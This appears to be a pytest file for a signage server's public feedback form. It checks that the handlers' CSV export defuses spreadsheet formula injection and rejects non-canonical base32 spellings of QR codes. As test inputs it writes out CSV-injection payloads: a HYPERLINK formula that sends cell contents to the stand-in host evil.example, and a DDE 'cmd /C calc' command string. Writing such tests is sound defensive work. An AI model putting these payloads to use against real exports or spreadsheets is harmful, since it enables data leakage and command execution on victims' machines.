"""What an attacker can do with the public feedback form and the handlers' export:
formulas in the CSV, reused nonces, alternative spellings of QR codes, bidi overrides."""

from __future__ import annotations

import csv
import io

from flask import Flask
from flask.testing import FlaskClient

from signage_server.feedback import codes
from tests.conftest import Demo
from tests.http.feedback import item_code
from tests.http.feedback import published_item
from tests.http.feedback import receipt_of
from tests.http.feedback import submit

#: What spreadsheet programs take for the start of a formula (the form already strips a
#: leading tab or line break: ``tests/unit/web/test_spreadsheet.py`` covers those).
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]


def _export(app: Flask, demo: Demo, user: str = "jiyi01_handler") -> list[list[str]]:
    web = app.test_client()
    demo.login(web, user)
    response = web.get("/feedback/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_every_cell_of_the_export_is_formula_safe(
    app: Flask, client: FlaskClient, demo: Demo
) -> None:
    items = {c: published_item(client, demo, title=c + "SUM(1+1)村务公开") for c in "=+-@"}
    for n, trigger in enumerate(TRIGGERS):
        item = items[trigger] if trigger in items else items["="]
        receipt_of(
            submit(
                client,
                item_code(app, item),
                text=trigger + 'HYPERLINK("http://evil.example/?"&A1,"点我")',
                name=trigger + "cmd|' /C calc'!A0",
                phone="13800138000",
                consent="y",
                address=f"10.0.1.{n}",
            )
        )
    header, *rows = _export(app, demo)
    assert len(rows) == len(TRIGGERS)
    for row in [header, *rows]:
        for cell in row:
            first = cell.lstrip(" \u3000")[:1]
            assert first not in set("=+-@\t\r＝＋－＠") or cell.startswith("'"), row
    titles = {row[4] for row in rows}
    assert titles == {"'" + c + "SUM(1+1)村务公开" for c in "=+-@"}
    texts = {row[7] for row in rows}
    assert texts == {"'" + t + 'HYPERLINK("http://evil.example/?"&A1,"点我")' for t in TRIGGERS}
    submitters = {row[6] for row in rows}
    assert submitters == {"'" + t + "cmd|' /C calc'!A0 13800138000" for t in TRIGGERS}
    # Ordinary values stay usable: receipts, dates as the spreadsheet reads them.
    for row in rows:
        assert row[0][:1].isalnum()
        assert row[5] == "2026-11-23 09:00"


# --- one spelling per QR code ------------------------------------------------------------

BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"


def test_only_the_canonical_spelling_of_a_code_opens_the_form(
    app: Flask, client: FlaskClient, demo: Demo
) -> None:
    item = published_item(client, demo)
    code = item_code(app, item)
    assert client.get(f"/f/{code}").status_code == 200
    assert client.get(f"/f/{code.lower()}").status_code == 200
    # The last character carries unused bits: its siblings decode to the same bytes.
    siblings = [
        code[:-1] + c
        for c in BASE32
        if c != code[-1] and codes.base64.b32decode(_padded(code[:-1] + c)) == _raw(code)
    ]
    assert siblings, "this code length has no unused bits: pick another"
    for n, spelling in enumerate(siblings):
        assert client.get(f"/f/{spelling}").status_code == 404, spelling
        assert submit(client, spelling, address=f"10.0.2.{n}").status_code == 404, spelling


def _padded(text: str) -> str:
    return text + "=" * (-len(text) % 8)


def _raw(code: str) -> bytes:
    return codes.base64.b32decode(_padded(code))
